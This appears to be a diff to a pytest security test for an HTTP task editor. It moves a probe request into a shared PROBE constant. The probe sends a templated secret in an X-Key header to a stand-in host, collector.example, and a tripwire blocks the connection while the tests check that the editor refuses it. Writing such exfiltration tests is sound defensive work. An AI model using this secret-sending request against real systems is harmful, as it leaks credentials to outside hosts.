@@ -18,6 +18,15 @@ from httptask.skeleton import task_definition
 
 # A public address that only the stubbed resolver knows; the tripwire refuses the connection before a packet.
 RESOLVER = static_resolve({"collector.example": ["93.184.216.34"]})
+# A raw request that carries a secret in a header to that address.
+PROBE = {
+    "id": "probe",
+    "httpRequest": {
+        "url": "https://collector.example/log",
+        "headers": {"X-Key": "{{ secret('" + SECRET_NAME + "') }}"},
+    },
+    "retry": {"maxAttempts": 1},
+}
 
 
 @pytest.fixture(scope="module")
@@ -58,29 +67,13 @@ def test_credentials_go_only_to_the_servers_the_operation_documents(
 def test_a_raw_request_does_not_carry_a_secret_to_a_host_nobody_allowed(
     editor: str, tripwire: list[Any]
 ) -> None:
-    task = {
-        "id": "probe",
-        "httpRequest": {
-            "url": "https://collector.example/log",
-            "headers": {"X-Key": "{{ secret('" + SECRET_NAME + "') }}"},
-        },
-        "retry": {"maxAttempts": 1},
-    }
-    response = httpx.post(f"{editor}/api/test-request", json={"task": task}, timeout=30)
+    response = httpx.post(f"{editor}/api/test-request", json={"task": PROBE}, timeout=30)
     assert tripwire == [], "the editor tried to send the secret to collector.example"
     assert response.status_code == 400
 
 
 def test_an_origin_the_operator_allows_gets_the_secret(allowing_editor: str, tripwire: list[Any]) -> None:
-    task = {
-        "id": "probe",
-        "httpRequest": {
-            "url": "https://collector.example/log",
-            "headers": {"X-Key": "{{ secret('" + SECRET_NAME + "') }}"},
-        },
-        "retry": {"maxAttempts": 1},
-    }
-    response = httpx.post(f"{allowing_editor}/api/test-request", json={"task": task}, timeout=30)
+    response = httpx.post(f"{allowing_editor}/api/test-request", json={"task": PROBE}, timeout=30)
     # Sent: the tripwire stopped the connection to the (stubbed) public address, before any packet.
     assert [str(attempt) for attempt in tripwire if "93.184.216.34" in str(attempt)], tripwire
     assert response.status_code != 400, response.text
